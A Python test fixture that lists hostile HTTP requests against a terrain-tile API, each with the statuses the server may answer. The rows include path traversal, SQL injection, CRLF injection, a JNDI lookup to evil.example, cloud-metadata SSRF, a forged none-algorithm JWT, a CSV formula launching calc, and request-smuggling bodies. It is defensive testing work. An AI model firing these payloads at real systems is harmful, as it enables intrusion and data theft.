"""The table of hostile requests, and which statuses each may be answered with."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass

from raw_http import chunked, written

KEY = "Authorization: Bearer {key}"
JSON = "Content-Type: application/json"
NDJSON = "Content-Type: application/x-ndjson"
CSV = "Content-Type: text/csv"
CHUNKED = "Transfer-Encoding: chunked"
LEVEL = "/terrain/golden/pyramid/max/0"
TILES = "/terrain/golden/tile"
MEBIBYTE = 2**20


@dataclass(frozen=True)
class Hostile:
    """A request, the statuses that answer it (None: no answer), and what of it may be said again."""

    name: str
    request: bytes
    statuses: frozenset[int | None]
    echoed: tuple[str, ...] = ()


def row(name: str, status: int | tuple[int | None, ...], request: bytes, *echoed: str) -> Hostile:
    statuses = status if isinstance(status, tuple) else (status,)
    return Hostile(name, request, frozenset(statuses), echoed)


def reading(target: str | bytes, *headers: str | bytes) -> bytes:
    return written("GET", target, KEY, *headers)


def posting(target: str, body: str | bytes, *headers: str | bytes) -> bytes:
    content = body if isinstance(body, bytes) else body.encode()
    kind = () if any(b"Content-Type" in (h if isinstance(h, bytes) else h.encode()) for h in headers) else (JSON,)
    return written("POST", target, KEY, *kind, *headers, body=content)


def patching(body: str | bytes, *headers: str) -> bytes:
    content = body if isinstance(body, bytes) else body.encode()
    return written("PATCH", "/terrain/golden", KEY, *(headers or (JSON,)), body=content)


def _paths() -> Iterator[Hostile]:
    for name, path, status in (
        ("nul", "/terrain/%00", 404),
        ("nul-within", "/terrain/gol%00den", 404),
        ("nul-metric", "/terrain/golden/pyramid/ma%00x", 404),
        ("nul-metric-level", "/terrain/golden/pyramid/ma%00x/0", 404),
        ("nul-level", "/terrain/golden/pyramid/max/%00", 422),
        ("nul-tile", "/terrain/tile/%00", 422),
        ("nul-registration", "/terrain/golden/registration/%00", 404),
        ("dots", "/terrain/../../etc/passwd", 404),
        ("encoded-dots", "/terrain/%2e%2e/%2e%2e/etc/passwd", 404),
        ("encoded-dots-terrain", "/terrain/%2e%2e", 404),
        ("encoded-slashes", "/terrain/..%2f..%2f..%2fetc%2fpasswd", 404),
        ("encoded-backslashes", "/terrain/..%5c..%5cetc%5cpasswd", 404),
        ("doubly-encoded", "/terrain/%252e%252e%252fetc", 404),
        ("overlong-utf-8", "/terrain/%c0%ae%c0%ae/%c0%af", 404),
        ("invalid-utf-8", "/terrain/%ff%fe", 404),
        ("lone-surrogate", "/terrain/%ed%a0%80", 404),
        ("bad-percent", "/terrain/%zz%", 404),
        ("crlf", "/terrain/a%0d%0aSet-Cookie:%20x=1", 404),
        ("crlf-registration", "/terrain/golden/registration/%0d%0aX:%20y", 404),
        ("emoji", "/terrain/%F0%9F%97%BB", 404),
        ("right-to-left", "/terrain/%E2%80%AEgnp", 404),
        ("digits-of-another-script", "/terrain/%D9%A1%D9%A2", 404),
        ("level-of-another-script", "/terrain/golden/pyramid/max/%D9%A9", (404, 422)),
        ("huge-terrain-id", f"/terrain/{10**30}", 404),
        ("terrain-id-2-63", f"/terrain/{2**63}", 404),
        ("terrain-id-negative", "/terrain/-1", 404),
        ("terrain-id-many-digits", f"/terrain/{'9' * 5000}", 404),
        ("terrain-id-zeros", f"/terrain/{'0' * 4000}1/tile", 404),
        ("huge-tile-id", f"/terrain/tile/{10**30}", 422),
        ("tile-id-2-63", f"/terrain/tile/{2**63}", 422),
        ("tile-id-many-digits", f"/terrain/tile/{'9' * 5000}", 422),
        ("tile-id-float", "/terrain/tile/1e400", 422),
        ("huge-level", f"/terrain/golden/pyramid/max/{10**30}", 422),
        ("level-53", f"/terrain/golden/pyramid/max/{2**53}", 404),
        ("level-minus-53", f"/terrain/golden/pyramid/max/-{2**53}", 404),
        ("level-nan", "/terrain/golden/pyramid/max/nan", 422),
        ("template", "/terrain/{{7*7}}", 404),
        ("sql", "/terrain/golden'%20OR%201=1--", 404),
        ("sql-like", "/terrain/%25", 404),
        ("long-name", f"/terrain/{'a' * 10_000}", 404),
        ("double-slash", "//terrain", 404),
        ("double-slash-host", "//evil.example/terrain", 404),
        ("absolute", "http://evil.example/terrain", 404),
        ("asterisk", "*", 404),
        ("no-slash", "terrain", 404),
        ("semicolon", "/terrain;jsessionid=1", 404),
        ("fragment", "/terrain#there", 404),
        ("trailing-slash", "/terrain/", (307, 404)),
        ("trailing-slash-host", "//evil.example/terrain/golden/", 404),
        ("many-slashes", f"/terrain{'/' * 5000}", 307),
        ("metric-path", "/terrain/golden/pyramid/..%2fmax/0", 404),
        ("metric-module", "/terrain/golden/pyramid/os:system/0", 404),
    ):
        yield row(f"path-{name}", status, reading(path), "/etc/passwd", "../etc/passwd", "/../../etc/passwd")
    yield row("path-raw-bytes", 400, reading(b"/terrain/\xff\xfe"))
    yield row("path-raw-nul", 400, reading(b"/terrain/\x00"))
    yield row("path-raw-tab", 400, reading(b"/terrain/\ta"))
    yield row("path-of-10-kB", 404, reading("/terrain/" + "a/" * 5000))
    yield row("line-without-end", 400, b"GET /terrain/" + b"a" * 20_000)
    yield row("query-of-12-kB", 422, reading("/terrain?q=" + "a" * 12_000))


def _queries() -> Iterator[Hostile]:
    for name, target, status in (
        ("limit-1e9", "/terrain?limit=1000000000", 422),
        ("limit-huge", f"/terrain?limit={10**400}", 422),
        ("limit-many-digits", f"/terrain?limit={'9' * 5000}", 422),
        ("limit-negative", "/terrain?limit=-1", 422),
        ("limit-zero", "/terrain?limit=0", 422),
        ("limit-float", "/terrain?limit=1e3", 422),
        ("limit-nan", "/terrain?limit=NaN", 422),
        ("limit-empty", "/terrain?limit=", 422),
        ("limit-hex", "/terrain?limit=0x10", 422),
        ("limit-twice", "/terrain?limit=1&limit=2", 422),
        ("limit-array", "/terrain?limit[]=1", 422),
        ("limit-of-another-script", "/terrain?limit=%D9%A1", (200, 422)),
        ("unknown", "/terrain?debug=true", 422),
        ("unknown-crlf", "/terrain?a%0d%0aSet-Cookie:x=1", 422),
        ("unknown-nul", "/terrain?%00=1", 422),
        ("unknown-many", "/terrain?" + "&".join(f"a{n}=1" for n in range(1500)), 422),
        ("q-nul", "/terrain?q=%00", 422),
        ("q-invalid-utf-8", "/terrain?q=%ff%fe", 200),
        ("q-surrogate", "/terrain?q=%ed%a0%80", 200),
        ("q-wildcards", "/terrain?q=%25_%5c", 200),
        ("q-sql", "/terrain?q='%3B%20DROP%20TABLE%20terrain--", 200),
        ("q-crlf", "/terrain?q=g%0d%0aX-Evil:%201&limit=1", 200),
        ("q-twice", "/terrain?q=a&q=b", 422),
        ("cursor-garbage", "/terrain?after=!!!", 422),
        ("cursor-nul", "/terrain?after=AAAA", 422),
        ("cursor-quote", "/terrain?after=JyBPUiAxPTE", 422),  # ' OR 1=1
        ("cursor-unicode", "/terrain?after=%F0%9F%97%BB", 422),
        ("cursor-long", f"/terrain?after={'YWFh' * 130}", 422),
        ("cursor-terrain-of-tiles", "/terrain?after=MQ", 422),  # 1
        ("cursor-tile-of-terrains", f"{TILES}?after=Z29sZGVu", 422),  # golden
        ("cursor-tile-2-70", f"{TILES}?after=MTE4MDU5MTYyMDcxNzQxMTMwMzQyNA", (200, 422)),
        ("cursor-tile-negative", f"{TILES}?after=LTE", 422),  # -1
        ("cursor-tile-many-digits", f"{TILES}?after={'OTk5' * 120}", (200, 422)),
        ("bbox-nan", "/terrain?bbox=nan,nan,nan,nan", 422),
        ("bbox-inf", "/terrain?bbox=-inf,-inf,inf,inf", 422),
        ("bbox-1e400", "/terrain?bbox=1e400,0,1,1", 422),
        ("bbox-five", "/terrain?bbox=1,2,3,4,5", 422),
        ("bbox-nul", "/terrain?bbox=1,2,3,%00", 422),
        ("bbox-huge", "/terrain?bbox=-1e308,-1e308,1e308,1e308", (200, 422)),
        ("tiles-bbox-nan", f"{TILES}?bbox=nan,0,1,1", 422),
        ("cell-huge", f"{TILES}?row={10**40}&col=0", 422),
        ("cell-2-53", f"{TILES}?row={2**53}&col={-(2**53)}", 200),
        ("cell-half", f"{TILES}?row=1", 422),
        ("window-huge", f"{LEVEL}?row=0&col=0&height={2**53}&width={2**53}", (413, 422)),
        ("window-huger", f"{LEVEL}?height={2**64}", 422),
        ("window-negative", f"{LEVEL}?row=-1", 422),
        ("window-outside", f"{LEVEL}?row={2**53}&col={2**53}&height=1&width=1", 422),
        ("window-1e400", f"{LEVEL}?row=1e400", 422),
        ("window-overflowing", f"{LEVEL}?row={2**53}&height={2**53}", 422),
        ("format-path", f"{LEVEL}?f=../../etc/passwd", 422),
        ("format-crlf", f"{LEVEL}?f=json%0d%0aX:1", 422),
        ("format-nul", f"{LEVEL}?f=%00", 422),
        ("stale-garbage", f"{LEVEL}?stale=%27", 422),
        ("semicolons", "/terrain?limit=1;q=a", 422),
        ("bad-percent", "/terrain?q=%zz%", 200),
        ("only-ampersands", "/terrain?" + "&" * 5000, 200),
    ):
        yield row(f"query-{name}", status, reading(target), "/etc/passwd")
    yield row("query-raw-bytes", 400, reading(b"/terrain?q=\xff\xfe"))


def _headers() -> Iterator[Hostile]:
    for name, header, status in (
        ("accept-garbage", "Accept: ;;;,,,q=q=q", (200, 406)),
        ("accept-nan", "Accept: application/json;q=nan", 406),
        ("accept-quality", "Accept: application/json;q=1e400", 406),
        ("accept-page", "Accept: text/html", 406),
        ("accept-many", "Accept: " + ", ".join(f"a/{n}" for n in range(1500)), 406),
        ("accept-bytes", b"Accept: \xff\xfe/\x80", 406),
        ("range-garbage", "Range: bytes=-99999999999999999999,9-1,a-b", 200),
        ("range-many", "Range: bytes=" + ",".join("0-0" for _ in range(3000)), 200),
        ("range-negative", "Range: bytes=--1", 200),
        ("range-huge", f"Range: bytes=0-{'9' * 5000}", 200),
        ("prefer-huge", f"Prefer: wait={'9' * 5000}", 200),
        ("prefer-negative", "Prefer: wait=-1", 200),
        ("prefer-nan", "Prefer: wait=nan, respond-async=;;;\"", 200),
        ("prefer-commas", "Prefer: " + "," * 10_000, 200),
        ("prefer-spaces", "Prefer: wait" + " " * 10_000 + "x", 200),
        ("if-none-match-garbage", 'If-None-Match: W/"W/"",,,"', 200),
        ("if-none-match-star", "If-None-Match: *", 304),
        ("if-none-match-many", "If-None-Match: " + ", ".join('""' for _ in range(3000)), 200),
        ("if-none-match-open", 'If-None-Match: "' + "\\" * 10_000, 200),
        ("if-none-match-bytes", b'If-None-Match: "\xff\xfe"', 200),
        ("request-id-crlf", "X-Request-Id: a%0d%0ab", 200),
        ("request-id-bytes", b"X-Request-Id: \xff\xfe", 200),
        ("request-id-long", "X-Request-Id: " + "a" * 10_000, 200),
        ("origin-garbage", "Origin: javascript:alert(1)", 200),
        ("origin-null", "Origin: null", 200),
        ("forwarded", "X-Forwarded-For: 127.0.0.1, ::1, evil", 200),
        ("forwarded-host", "X-Forwarded-Host: evil.example", 200),
        ("override", "X-HTTP-Method-Override: DELETE", 200),
        ("original-url", "X-Original-URL: /metrics", 200),
        ("cookie", "Cookie: " + "a=b;" * 3000, 200),
        ("expect", "Expect: 200-maybe", 200),
        ("upgrade", "Upgrade: h2c", 200),
        ("te", "TE: trailers, deflate;q=0.5", 200),
        ("traceparent", "traceparent: 00-zz-\x7f", 200),
        ("many", "\r\n".join(f"X-{n}: {n}" for n in range(700)), 200),
        ("folded", "X-Folded: a\r\n b", (200, 400)),
        ("no-colon", "Nonsense", 400),
        ("space-before-colon", "X-Evil : 1", 400),
        ("empty-name", ": 1", 400),
        ("nul", "X-Nul: a\x00b", 400),
        ("bare-cr", "X-Cr: a\rb", 400),
        ("second-host", "Host: evil.example", 400),
    ):
        yield row(f"header-{name}", status, reading(LEVEL, header))
    yield row("host-other", 421, written("GET", "/terrain", KEY, host="evil.example"))
    yield row("host-empty", 421, written("GET", "/terrain", KEY, host=""))
    yield row("host-user", 421, written("GET", "/terrain", KEY, host="localhost@evil.example"))
    yield row("host-crlf", 421, written("GET", "/terrain", KEY, host="localhost%0d%0a"))
    yield row("host-bracket", 421, written("GET", "/terrain", KEY, host="[::1"))
    yield row("host-script", 421, written("GET", "/terrain", KEY, host="<script>"))
    yield row("header-without-end", 400, b"GET /terrain HTTP/1.1\r\nX-Long: " + b"a" * 20_000)
    yield row("host-missing", 400, b"GET /terrain HTTP/1.1\r\n\r\n")


NONE_JWT = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiIsInNjb3BlIjoid3JpdGUifQ."


def _keys() -> Iterator[Hostile]:
    for name, value in (
        ("jwt-none", f"Bearer {NONE_JWT}"),
        ("jwt-signed", f"Bearer {NONE_JWT}c2lnbmVk"),
        ("scheme-basic", "Basic {key}"),
        ("scheme-missing", "{key}"),
        ("scheme-digest", 'Digest username="admin"'),
        ("scheme-tab", "Bearer\t{key}"),
        ("empty", ""),
        ("only-scheme", "Bearer"),
        ("only-scheme-and-space", "Bearer "),
        ("non-ascii", "Bearer zig_000000000000.ä€𐍈"),
        ("bytes", b"Bearer \xff\xfe"),
        ("digits-of-another-script", "Bearer zig_١٢٣٤٥٦٧٨٩٠١٢." + "a" * 43),
        ("superscript", b"Bearer zig_\xb2\xb3\xb9." + b"\xe9" * 43),
        ("forged", "Bearer zig_000000000000." + "A" * 43),
        ("forged-16", "Bearer zig_0000000000000000." + "A" * 43),
        ("forged-long", "Bearer zig_00000000." + "A" * 10_000),
        ("prefix-only", "Bearer zig_000000000000"),
        ("without-end", "Bearer {key}A"),
        ("twice", "Bearer {key}, Bearer {key}"),
        ("two-words", "Bearer {key} {key}"),
        ("quoted", 'Bearer "{key}"'),
        ("sql", "Bearer zig_' OR '1'='1.x"),
        ("wildcard", "Bearer zig_%.%"),
        ("template", "Bearer ${jndi:ldap://evil.example/a}"),
    ):
        header = b"Authorization: " + (value if isinstance(value, bytes) else value.encode())
        yield row(f"key-{name}", 401, written("POST", "/terrain", header, JSON, body=b'{"name": "never"}'))
    none = written("POST", "/terrain", JSON, body=b'{"name": "never"}')
    yield row("key-none", 401, none)
    yield row("key-in-query", 401, written("POST", "/terrain?key={key}", JSON, body=b'{"name": "never"}'))
    yield row("key-in-cookie", 401, written("POST", "/terrain", "Cookie: key={key}", JSON, body=b"{}"))
    yield row("key-good-and-forged", 401, written("POST", "/terrain", "Authorization: Bearer zig_0.a", KEY, JSON))
    yield row("key-for-metrics-forged", 401, written("GET", "/metrics", "Authorization: Bearer zig_0.a"))


def _methods() -> Iterator[Hostile]:
    for method, status in (
        ("PUT", 405),
        ("TRACE", 405),
        ("CONNECT", 405),
        ("PROPFIND", 405),
        ("QUERY", 405),
        ("OPTIONS", 405),
        ("get", 405),
        ("A" * 5000, 405),
        ("G%45T", 405),
        ("__class__", 405),
    ):
        yield row(f"method-{method[:9]}", status, written(method, "/terrain", KEY))
    yield row("method-split", 400, written("GE T", "/terrain", KEY))
    yield row("method-bytes", 400, written("GÉT", "/terrain", KEY))
    yield row("method-head-with-body", 200, written("HEAD", "/terrain", KEY, body=b"x"))
    yield row("method-get-with-body", 200, written("GET", "/terrain", KEY, JSON, body=b'{"a": NaN}'))
    yield row("preflight-garbage", 400, written(
        "OPTIONS", "/terrain", "Origin: '","Access-Control-Request-Method: <x>",
    ), "<x>")
    yield row("version-9", 200, b"GET /terrain HTTP/9.9\r\nHost: localhost\r\nConnection: close\r\n\r\n")
    yield row("version-none", 400, b"GET /terrain\r\n\r\n")
    yield row("version-2", 421, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
    yield row("tls", 400, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 40)
    yield row("blank", 400, b"\r\n\r\n")
    yield row("nothing", (None,), b"")
    yield row("half-a-head", (None,), b"GET /terrain HTTP/1.1\r\nHost: loc")


def _json() -> Iterator[Hostile]:
    for name, body, status in (
        ("nan", '{"name": "never", "nodata": NaN}', 422),
        ("infinity", '{"name": "never", "nodata": Infinity}', 422),
        ("minus-infinity", '{"name": "never", "nodata": -Infinity}', 422),
        ("1e400", '{"name": "never", "nodata": 1e400}', 422),
        ("1e400-transform", '{"name": "never", "anchor_transform": [1e400,0,0,0,-1,0]}', 422),
        ("1e308-extent", '{"name": "never", "crs": "EPSG:32632", "anchor_transform": [1,0,0,0,-1,0],'
         ' "extent": {"left": -1e308, "bottom": -1e308, "right": 1e308, "top": 1e308}}', 422),
        ("denormal-transform", '{"name": "never", "crs": "EPSG:32632",'
         ' "anchor_transform": [5e-324,0,0,0,-5e-324,0], "extent": {"left":0,"bottom":0,"right":1,"top":1}}', 422),
        ("zero-transform", '{"name": "never", "anchor_transform": [0,0,0,0,0,0]}', 422),
        ("huge-integer", f'{{"name": "never", "tile_size": {10**400}}}', 422),
        ("many-digits", f'{{"name": "never", "tile_size": {"9" * 100_000}}}', (400, 422)),
        ("surrogate-name", '{"name": "\\ud800"}', 422),
        ("surrogate-title", '{"name": "never", "title": "\\ud800"}', 422),
        ("surrogate-crs", '{"name": "never", "crs": "\\udfff"}', 422),
        ("surrogate-field", '{"name": "never", "\\ud800": 1}', 422),
        ("nul-name", '{"name": "a\\u0000"}', 422),
        ("nul-title", '{"name": "never", "title": "a\\u0000"}', 422),
        ("nul-crs", '{"name": "never", "crs": "EPSG:4326\\u0000"}', 422),
        ("raw-nul", '{"name": "a\x00"}', (400, 422)),
        ("name-newline", '{"name": "alps\\n"}', 422),
        ("name-reserved", '{"name": "tile"}', 422),
        ("name-digits", '{"name": "12"}', 422),
        ("name-of-10-kB", json.dumps({"name": "a" * 10_000}), 422),
        ("name-object", '{"name": {"$ne": null}}', 422),
        ("title-of-1-MB", json.dumps({"name": "never", "title": "a" * 10**6}), 422),
        ("crs-path", '{"name": "never", "crs": "/etc/passwd"}', 422),
        ("crs-url", '{"name": "never", "crs": "http://127.0.0.1:1/"}', 422),
        ("crs-pipeline", '{"name": "never", "crs": "+proj=pipeline +step +init=/etc/passwd:1"}', 422),
        ("crs-grids", '{"name": "never", "crs": "+proj=longlat +nadgrids=/etc/passwd"}', (201, 422)),
        ("crs-nested", json.dumps({"name": "never", "crs": "GEOGCS[" * 280}), 422),
        ("crs-newline", '{"name": "never", "crs": "EPSG:4326\\r\\nX: y"}', 422),
        ("empty", "", 422),
        ("null", "null", 422),
        ("list", "[]", 422),
        ("string", '"name"', 422),
        ("number", "1", 422),
        ("torn", '{"name": "ne', (400, 422)),
        ("trailing", '{"name": "never"} {}', (400, 422)),
        ("comment", '{"name": "never" /* */}', (400, 422)),
        ("unknown-field", '{"name": "never", "is_admin": true}', 422),
        ("id", '{"name": "never", "id": 1}', 422),
        ("proto", '{"name": "never", "__proto__": {}}', 422),
        ("class", '{"name": "never", "__class__": "x"}', 422),
        ("deep-lists", "[" * 100_000, (400, 422)),
        ("deep-lists-closed", "[" * 100_000 + "]" * 100_000, (400, 422)),
        ("deep-objects", '{"a":' * 100_000 + "1" + "}" * 100_000, (400, 422)),
        ("deep-field", '{"name": ' + "[" * 900 + "]" * 900 + "}", 422),
        ("many-fields", json.dumps({f"f{n}": n for n in range(20_000)}), 422),
        ("transform-of-a-million", json.dumps({"name": "never", "anchor_transform": [0] * 10**6}), 422),
    ):
        yield row(f"json-{name}", status, posting("/terrain", body), "/etc/passwd", "__class__", "GEOGCS")
    yield row("json-repeated-field", 409, posting("/terrain", '{"name": "never", "name": "golden"}'))
    yield row("json-utf-16", (400, 422), posting("/terrain", '{"name": "never", "x": 1}'.encode("utf-16")))
    yield row("json-utf-32", (400, 422), posting("/terrain", '{"name": "never", "x": 1}'.encode("utf-32")))
    yield row("json-bom", (400, 422), posting("/terrain", b'\xef\xbb\xbf{"name": "never", "x": 1}'))
    yield row("json-invalid-utf-8", (400, 422), posting("/terrain", b'{"name": "\xff\xfe"}'))
    yield row("json-utf-8-surrogate", (400, 422), posting("/terrain", b'{"name": "\xed\xa0\x80"}'))
    yield row("json-random", (400, 422), posting("/terrain", bytes(range(256)) * 40))
    yield row("json-patch-surrogate", 422, patching('{"title": "\\ud800"}'))
    yield row("json-patch-nul", 422, patching('{"title": "\\u0000"}'))
    yield row("json-patch-unknown", 422, patching('{"name": "other"}'))
    yield row("json-patch-null", 422, patching("null"))


def _tiles() -> Iterator[Hostile]:
    for name, tile, status in (
        ("url-nul", '"url": "a\\u0000.npy", "x": 0, "y": 0', 422),
        ("url-surrogate", '"url": "\\ud800.npy", "x": 0, "y": 0', 422),
        ("url-escapes", '"url": "../../../../etc/passwd", "x": 0, "y": 0', 422),
        ("url-absolute", '"url": "/etc/passwd", "x": 0, "y": 0', 422),
        ("url-proc", '"url": "/proc/self/environ", "x": 0, "y": 0', 422),
        ("url-file", '"url": "file:///etc/passwd", "x": 0, "y": 0', 422),
        ("url-vsi", '"url": "/vsicurl/http://127.0.0.1:1/a.tif", "x": 0, "y": 0', 422),
        ("url-chain", '"url": "simplecache::file:///etc/passwd", "x": 0, "y": 0', 422),
        ("url-metadata", '"url": "http://169.254.169.254/latest/meta-data", "x": 0, "y": 0', 422),
        ("url-long", f'"url": "{"a" * 2048}", "x": 0, "y": 0', 422),
        ("url-long-parts", f'"url": "{"a/" * 1000}a.npy", "x": 0, "y": 0', 422),
        ("url-folder", '"url": ".", "x": 0, "y": 0', 422),
        ("url-empty", '"url": "", "x": 0, "y": 0', 422),
        ("url-newline", '"url": "west\\n.npy", "x": 0, "y": 0', 422),
        ("url-tilde", '"url": "~root/.profile", "x": 0, "y": 0', 422),
        ("url-variable", '"url": "$HOME/a.npy", "x": 0, "y": 0', 422),
        ("url-option", '"url": "--help", "x": 0, "y": 0', 422),
        ("x-2-53", f'"url": "west.npy", "x": {2**53}, "y": {-(2**53)}', 422),
        ("x-huge", f'"url": "west.npy", "x": {10**400}, "y": 0', 422),
        ("x-1e400", '"url": "west.npy", "x": 1e400, "y": 0', 422),
        ("x-nan", '"url": "west.npy", "x": NaN, "y": 0', 422),
        ("priority-huge", f'"url": "west.npy", "x": 0, "y": 0, "priority": {2**31}', 422),
        ("nodata-infinity", '"url": "west.npy", "x": 0, "y": 0, "nodata": -Infinity', 422),
    ):
        echoed = ("/etc/passwd", "/proc/self/environ", "/vsicurl/", "~root/.profile")
        yield row(f"tile-{name}", status, posting(TILES, f'{{"tiles": [{{{tile}}}]}}'), *echoed)
    many = json.dumps({"tiles": [{"url": "a.npy", "x": 0, "y": 0}] * 100_001})
    yield row("tile-many", 413, posting(TILES, many))
    yield row("tile-none", 422, posting(TILES, '{"tiles": []}'))
    yield row("tile-object", 422, posting(TILES, '{"tiles": {"url": "west.npy"}}'))
    yield row("tile-unknown-terrain", 404, posting("/terrain/%00/tile", '{"tiles": [{"url": "west.npy"}]}'))


def _bodies() -> Iterator[Hostile]:
    large = b"x" * MEBIBYTE
    yield row("body-10-MB-chunked", 413, written("POST", "/terrain", KEY, JSON, CHUNKED, body=chunked(*[large] * 10)))
    yield row("body-10-MB", 413, posting("/terrain", large * 10))
    yield row("body-10-MB-to-tiles", 413, posting(TILES, large * 10))
    yield row("body-10-MB-patch", 413, patching(large * 10))
    yield row("body-10-MB-without-key", 401, written("POST", "/terrain", JSON, body=large * 10))
    yield row("body-10-MB-nowhere", 404, posting("/nowhere", large * 10))
    for name, length, status in (
        ("declares-too-much", "999999999999999999999", 413),
        ("declares-many-digits", "9" * 5000, (400, 413)),
        ("declares-negative", "-1", 400),
        ("declares-plus", "+5", 400),
        ("declares-hex", "0x5", 400),
        ("declares-nothing", "", 400),
        ("declares-two", "2, 3", 400),
        ("declares-other-script", "٥", 400),
        ("declares-superscript", b"\xb2", 400),
    ):
        lie = b"Content-Length: " + (length if isinstance(length, bytes) else length.encode())
        yield row(f"body-{name}", status, written("POST", "/terrain", KEY, JSON, lie, body=b"{}"))
    yield row("body-shorter-than-declared", (None, 400), posting("/terrain", "{}", JSON, "Content-Length: 100"))
    yield row("body-two-lengths", 400, posting("/terrain", "{}", JSON, "Content-Length: 2", "Content-Length: 3"))
    yield row("body-length-and-chunked", (400, 422), posting("/terrain", chunked(b"{}"), JSON, "Content-Length: 2", CHUNKED))
    yield row("body-chunk-garbage", 400, posting("/terrain", b"zz\r\n{}\r\n0\r\n\r\n", JSON, CHUNKED))
    yield row("body-chunk-garbage-after-the-answer", 404, posting("/nowhere", chunked(b"x")[:-5] + b"zz\r\n", CHUNKED))
    yield row("body-chunk-huge", (None, 400, 413), posting("/terrain", b"f" * 15 + b"\r\n{}", JSON, CHUNKED))
    yield row("body-chunk-huger", 400, posting("/terrain", b"f" * 100 + b"\r\n{}", JSON, CHUNKED))
    yield row("body-chunks-of-1", 422, posting("/terrain", chunked(*[b" "] * 5000), JSON, CHUNKED))
    yield row("body-coding-unknown", 400, posting("/terrain", "{}", JSON, "Transfer-Encoding: gzip, chunked"))
    yield row("body-coding-twice", 400, posting("/terrain", chunked(b"{}"), JSON, CHUNKED, CHUNKED))
    yield row("body-gzip", (400, 415, 422), posting("/terrain", b"\x1f\x8b\x08\x00", JSON, "Content-Encoding: gzip"))
    for name, kind in (
        ("none", "Content-Type:"),
        ("xml", "Content-Type: application/xml"),
        ("text", "Content-Type: text/plain"),
        ("form", "Content-Type: application/x-www-form-urlencoded"),
        ("multipart", "Content-Type: multipart/form-data; boundary=x"),
        ("multipart-without-boundary", "Content-Type: multipart/form-data"),
        ("garbage", "Content-Type: ;;;///"),
        ("charset", "Content-Type: application/json; charset=utf-7"),
        ("bytes", b"Content-Type: \xff\xfe/json"),
    ):
        yield row(f"type-{name}", (400, 415, 422), posting("/terrain", '{"name": "never", "x": 1}', kind))


def _repetitions() -> Iterator[Hostile]:
    for name, key in (
        ("empty", "Idempotency-Key: "),
        ("long", "Idempotency-Key: " + "a" * 10_000),
        ("201", "Idempotency-Key: " + "a" * 201),
        ("bytes", b"Idempotency-Key: \xff\xfe"),
        ("spaces", "Idempotency-Key: a b"),
        ("non-ascii", "Idempotency-Key: Möwe"),
    ):
        yield row(f"repetition-{name}", 422, posting("/terrain", '{"name": "never"}', JSON, key))
    taken = "Idempotency-Key: '; DROP TABLE terrain--".replace(" DROP TABLE ", "DROP/**/TABLE/**/")
    yield row("repetition-sql", 409, posting("/terrain", '{"name": "golden"}', JSON, taken))
    twice = ("Idempotency-Key: one", "Idempotency-Key: two")
    yield row("repetition-twice", (409, 422), posting("/terrain", '{"name": "golden"}', JSON, *twice))


def _tables() -> Iterator[Hostile]:
    """A table is taken, 202, and what is wrong with it is in its job; or refused at once."""
    for name, body, kind in (
        ("ndjson-empty", b"", NDJSON),
        ("ndjson-nul", b"\x00" * 1000, NDJSON),
        ("ndjson-random", bytes(range(256)) * 100, NDJSON),
        ("ndjson-nan", b'{"url": "a.npy", "x": NaN, "y": 1e400}\n', NDJSON),
        ("ndjson-huge", b'{"url": "a.npy", "x": ' + b"9" * 10_000 + b', "y": 0}\n', NDJSON),
        ("ndjson-surrogate", b'{"url": "\\ud800", "x": 0, "y": 0}\n', NDJSON),
        ("ndjson-url-nul", b'{"url": "a\\u0000", "x": 0, "y": 0}\n', NDJSON),
        ("ndjson-deep", b"[" * 100_000 + b"\n", NDJSON),
        ("ndjson-line", b"x" * MEBIBYTE, NDJSON),
        ("ndjson-lists", b"[]\n1\nnull\n" * 100, NDJSON),
        ("csv-empty", b"", CSV),
        ("csv-nul", b"url,x,y\na\x00.npy,0,0\n", CSV),
        ("csv-random", bytes(range(256)) * 100, CSV),
        ("csv-quote", b'url,x,y\n"' + b"a" * 200_000, CSV),
        ("csv-nan", b"url,x,y\nwest.npy,nan,1e400\n", CSV),
        ("csv-other-script", "url,x,y\nwest.npy,٠,²\n".encode(), CSV),
        ("csv-no-header", b"west.npy,0,0\n", CSV),
        ("csv-header-twice", b"url,url,x,x\na,b,1,2\n", CSV),
        ("csv-columns", b"," * 100_000 + b"\n", CSV),
        ("csv-formula", b'url,x,y\n"=cmd|\'/c calc\'!A1",0,0\n', CSV),
        ("csv-escapes", b"url,x,y\n../../../etc/passwd,0,0\n", CSV),
        ("csv-utf-16", "url,x,y\nwest.npy,0,0\n".encode("utf-16"), CSV),
    ):
        yield row(f"table-{name}", (202, 422), posting(TILES, body, kind))
    yield row("table-torn", (None, 400), posting(TILES, "{}", NDJSON, "Content-Length: 100"))
    yield row("table-nowhere", 404, posting("/terrain/%00/tile", "url", CSV))
    yield row("table-for-terrains", (415, 422), posting("/terrain", "url", CSV))
    yield row("table-declares-too-much", 413, posting(TILES, "url", CSV, "Content-Length: 99999999999999"))


HOSTILE = [
    *_paths(),
    *_queries(),
    *_headers(),
    *_keys(),
    *_methods(),
    *_json(),
    *_tiles(),
    *_bodies(),
    *_repetitions(),
    *_tables(),
]
